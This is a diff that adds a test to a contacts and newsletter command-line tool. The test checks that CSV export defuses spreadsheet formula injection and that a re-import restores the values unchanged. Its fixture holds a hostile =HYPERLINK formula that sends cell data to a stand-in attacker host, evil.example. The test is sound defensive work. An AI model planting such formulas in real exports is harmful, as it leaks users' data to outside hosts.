@@ -291,3 +291,27 @@ def test_an_idn_recipient_unsubscribes_with_a_link_in_either_form(workspace, mon
         assert result.exit_code == 0, result.output
     statuses = {c["email"]: c["status"] for c in json.loads(invoke(workspace, "contacts", "list", "--json").stdout)}
     assert statuses == {"per@blåbær.no": "unsubscribed", "kari@blåbær.no": "unsubscribed"}
+
+
+def test_contacts_export_neutralises_formula_cells_and_imports_back_unchanged(workspace, tmp_path):
+    hostile = '=HYPERLINK("https://evil.example/?x="&A1,"klikk")'
+    assert (
+        invoke(workspace, "contacts", "add", "a@example.org", "--name", hostile, "--organisation", "+47 22").exit_code
+        == 0
+    )
+    assert invoke(workspace, "contacts", "add", "b@example.org", "--name", "@SUM(1)", "--tag", "-helse").exit_code == 0
+    plain = invoke(workspace, "contacts", "export").stdout
+    assert '"\'=HYPERLINK(""https://evil.example/?x=""&A1,""klikk"")"' in plain
+    assert ",'+47 22," in plain and ",'@SUM(1)," in plain and ",'-helse," in plain
+    excel = invoke(workspace, "contacts", "export", "--excel").stdout
+    assert excel.startswith("\ufeffemail;name;organisation;tags;")
+    copy = tmp_path / "kopi.csv"
+    copy.write_text(excel, encoding="utf-8", newline="")
+    other = tmp_path / "other"
+    (other / "var").mkdir(parents=True)
+    for name in ("newsletter.yaml", "feeds.yaml"):
+        (other / name).write_bytes((workspace / name).read_bytes())
+    assert invoke(other, "contacts", "import", str(copy)).exit_code == 0
+    back = {c["email"]: c for c in json.loads(invoke(other, "contacts", "list", "--json").stdout)}
+    assert back["a@example.org"]["name"] == hostile and back["a@example.org"]["organisation"] == "+47 22"
+    assert back["b@example.org"]["name"] == "@SUM(1)" and back["b@example.org"]["tags"] == ["-helse"]
